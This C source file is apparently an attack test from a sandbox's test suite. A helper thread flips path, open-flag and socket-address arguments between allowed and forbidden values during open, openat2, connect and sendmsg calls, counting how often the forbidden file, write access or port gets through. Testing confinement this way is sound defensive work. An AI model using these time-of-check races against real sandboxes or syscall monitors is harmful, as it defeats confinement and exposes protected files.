/* ATTACKS 1: a sibling thread flips what a pointer argument names between judgement and use.
 * row_01_flip open GOOD SECRET N S | create GOOD BAD N S | how FILE N S
 *             | connect PORT BADPORT N S | stream PORT BADPORT N S | send PORT BADPORT N S */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/openat2.h>
#include <netinet/in.h>

static atomic_bool stop;

struct flip {
	char *shared;
	const char *one, *two;
	size_t size;
};

/* Copies one and the other over the shared argument until told to stop. */
static void *flipper(void *argument) {
	struct flip *flip = argument;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(flip->shared, flip->one, flip->size);
		atomic_signal_fence(memory_order_seq_cst);
		memcpy(flip->shared, flip->two, flip->size);
		atomic_signal_fence(memory_order_seq_cst);
	}
	return NULL;
}

/* Both paths padded with leading slashes to one length, so that every mixture is short-lived. */
static size_t pad(char *one, char *two, const char *good, const char *bad) {
	size_t length = strlen(good) > strlen(bad) ? strlen(good) : strlen(bad);
	memset(one, '/', length);
	memset(two, '/', length);
	strcpy(one + length - strlen(good), good);
	strcpy(two + length - strlen(bad), bad);
	return length + 1;
}

static void flip_path(const char *mode, const char *good, const char *bad, struct limit limit) {
	static char one[4096], two[4096], shared[4096];
	struct flip flip = { shared, one, two, 0 };
	unsigned long done, opened = 0;
	pthread_t thread;
	flip.size = pad(one, two, good, bad);
	memcpy(shared, one, flip.size);
	pthread_create(&thread, NULL, flipper, &flip);
	for (done = 0; go_on(&limit, done); done++) {
		if (!strcmp(mode, "open")) {
			int fd = open(shared, O_RDONLY | O_CLOEXEC);
			opened += fd >= 0;
			tried(gives_secret(fd), "open");
		} else {
			int fd = open(shared, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
			bool made = exists(bad);
			if (fd >= 0)
				close(fd), opened++;
			tried(made, "create");
			unlink(made ? bad : good);
		}
	}
	stop = true;
	pthread_join(thread, NULL);
	printf("opened %lu of %lu\n", opened, done);
}

static void flip_how(const char *path, struct limit limit) {
	static struct open_how shared;
	struct open_how one = { .flags = O_RDONLY | O_CLOEXEC }, two = { .flags = O_RDWR | O_CLOEXEC };
	struct flip flip = { (char *)&shared, (char *)&one, (char *)&two, sizeof shared };
	unsigned long done, opened = 0;
	pthread_t thread;
	shared = one;
	pthread_create(&thread, NULL, flipper, &flip);
	for (done = 0; go_on(&limit, done); done++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &shared, sizeof shared);
		tried(fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY, "openat2 for writing");
		if (fd >= 0)
			close(fd), opened++;
	}
	stop = true;
	pthread_join(thread, NULL);
	printf("opened %lu of %lu\n", opened, done);
}

static struct sockaddr_in loopback(int port) {
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return address;
}

static void flip_address(const char *mode, int good, int bad, struct limit limit) {
	static struct sockaddr_in shared;
	struct sockaddr_in one = loopback(good), two = loopback(bad), peer;
	struct flip flip = { (char *)&shared, (char *)&one, (char *)&two, sizeof shared };
	struct iovec data = { "x", 1 };
	struct msghdr message = { .msg_name = &shared, .msg_namelen = sizeof shared, .msg_iov = &data, .msg_iovlen = 1 };
	unsigned long done, worked = 0;
	pthread_t thread;
	shared = one;
	pthread_create(&thread, NULL, flipper, &flip);
	for (done = 0; go_on(&limit, done); done++) {
		int fd = socket(AF_INET, (strcmp(mode, "stream") ? SOCK_DGRAM : SOCK_STREAM) | SOCK_CLOEXEC, 0);
		socklen_t size = sizeof peer;
		if (!strcmp(mode, "send")) {
			/* Whether one arrived at the other port only its owner can say. */
			worked += sendmsg(fd, &message, 0) == 1;
			tried(false, "sendmsg");
		} else {
			worked += connect(fd, (struct sockaddr *)&shared, sizeof shared) == 0;
			tried(getpeername(fd, (struct sockaddr *)&peer, &size) == 0 && peer.sin_port == two.sin_port, "connect");
		}
		close(fd);
	}
	stop = true;
	pthread_join(thread, NULL);
	printf("worked %lu of %lu\n", worked, done);
}

int main(int argc, char **argv) {
	if (argc == 5 && !strcmp(argv[1], "how"))
		flip_how(argv[2], limit_from(argv[3], argv[4]));
	else if (argc == 6 && (!strcmp(argv[1], "open") || !strcmp(argv[1], "create")))
		flip_path(argv[1], argv[2], argv[3], limit_from(argv[4], argv[5]));
	else if (argc == 6)
		flip_address(argv[1], atoi(argv[2]), atoi(argv[3]), limit_from(argv[4], argv[5]));
	else
		usage("row_01_flip MODE ARGUMENTS… TRIES SECONDS");
	return finish();
}
